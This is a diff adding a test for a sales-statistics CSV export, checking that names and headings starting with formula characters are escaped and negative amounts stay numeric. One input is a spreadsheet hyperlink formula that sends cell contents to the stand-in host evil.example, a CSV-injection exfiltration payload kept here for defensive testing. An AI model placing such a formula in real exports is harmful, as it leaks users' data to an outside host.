@@ -147,6 +147,25 @@ it('a partner sees sales, earnings, products, visitors and buyers by day and mon
   ]);
 });
 
+it('no name or heading runs as a formula in a spreadsheet, and negative amounts stay numbers', () => {
+  const sold = { sales: -1, revenueKopecks: -10_100, earnedKopecks: -100 };
+  const names = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+7', '-1+1', '@SUM(A1)', '\tone', '\rtwo'];
+  const statistics = { days: [], months: [], products: names.map((name) => ({ ...sold, name })) };
+  const heads = { product: '=product', sales: 'sales', revenue: 'revenue', earned: '@earned', day: 'day' };
+  const others = { month: 'month', visitors: 'visitors', converted: 'converted', buyers: 'buyers' };
+  const lines = toStatisticsCsv(statistics, { ...heads, ...others }).split('\r\n');
+  expect(lines.slice(4)).toEqual([
+    "'=product,sales,revenue,'@earned",
+    `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",-1,-101.00,-1.00`,
+    "'+7,-1,-101.00,-1.00",
+    "'-1+1,-1,-101.00,-1.00",
+    "'@SUM(A1),-1,-101.00,-1.00",
+    "'\tone,-1,-101.00,-1.00",
+    `"'\rtwo",-1,-101.00,-1.00`,
+    '',
+  ]);
+});
+
 it('an order of 100 million roubles is counted', async () => {
   const { ownerId, botId } = await partner(100);
   await sell(botId, '2026-11-02');
